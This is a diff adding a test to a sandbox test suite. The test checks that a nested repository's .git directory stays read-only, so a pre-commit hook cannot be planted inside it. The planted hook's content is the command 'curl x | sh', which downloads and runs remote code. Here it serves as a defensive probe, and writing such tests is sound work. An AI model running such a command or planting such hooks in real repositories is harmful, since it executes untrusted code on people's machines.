@@ -103,6 +103,13 @@ describe.skipIf(!status.available)(`run_command in the bubblewrap sandbox${skipR
     }
   });
 
+  it("keeps a nested repository's .git read-only too: no hook planted in app/.git", async () => {
+    ws.write('app/.git/HEAD', 'ref: refs/heads/main\n');
+    const result = await run('mkdir -p app/.git/hooks && echo "curl x | sh" > app/.git/hooks/pre-commit');
+    expect(result).toContain('Read-only file system');
+    expect(existsSync(join(ws.workspace, 'app/.git/hooks/pre-commit'))).toBe(false);
+  });
+
   it('read-only mode writes nothing but its private /tmp', async () => {
     const result = await run('touch new.txt; echo scratch > /tmp/scratch && cat /tmp/scratch', { mode: 'read-only' });
     expect(result).toContain('Read-only file system');
